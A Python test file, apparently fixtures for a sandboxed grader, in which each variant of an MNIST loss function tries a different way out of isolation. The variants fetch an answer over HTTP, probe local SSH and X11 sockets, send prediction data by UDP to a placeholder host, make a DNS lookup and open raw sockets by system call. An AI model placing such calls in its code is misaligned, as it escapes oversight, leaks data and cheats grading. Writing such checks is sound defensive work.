"""Ways out."""


def mnist_loss__asks_the_internet():
    """Fetches the answer by HTTP."""
    import urllib.request

    def mnist_loss(preds, targs):
        return preds.sum() + float(urllib.request.urlopen("http://203.0.113.1/answer", timeout=5).read())


def mnist_loss__asks_this_machine():
    """Connects to a port of this machine."""
    import socket

    def mnist_loss(preds, targs):
        return preds.sum() + len(socket.create_connection(("127.0.0.1", 22), timeout=1).recv(9))


def mnist_loss__a_unix_socket():
    """Connects to a socket in the file system and to an abstract one."""
    import socket

    def mnist_loss(preds, targs):
        line = socket.socket(socket.AF_UNIX)
        line.connect("\0/tmp/.X11-unix/X0")
        return preds.sum()


def mnist_loss__a_datagram():
    """Sends its arguments away in one datagram."""
    import socket

    def mnist_loss(preds, targs):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(preds.detach().numpy().tobytes(), ("203.0.113.1", 53))
        return preds.sum()


def mnist_loss__a_name_server():
    """Looks a name up, which may carry a message."""
    import socket

    def mnist_loss(preds, targs):
        return preds.sum() + len(socket.getaddrinfo("answer.example", 80))


def mnist_loss__a_raw_call():
    """Opens a socket by the number of the system call, as a netlink socket and by the 32-bit entry's number."""
    import ctypes

    def mnist_loss(preds, targs):
        libc = ctypes.CDLL(None, use_errno=True)
        if min(libc.syscall(41, 16, 3, 0), libc.syscall(0x40000000 + 41, 2, 1, 0)) < 0:
            raise RuntimeError("refused")
        return preds.sum()
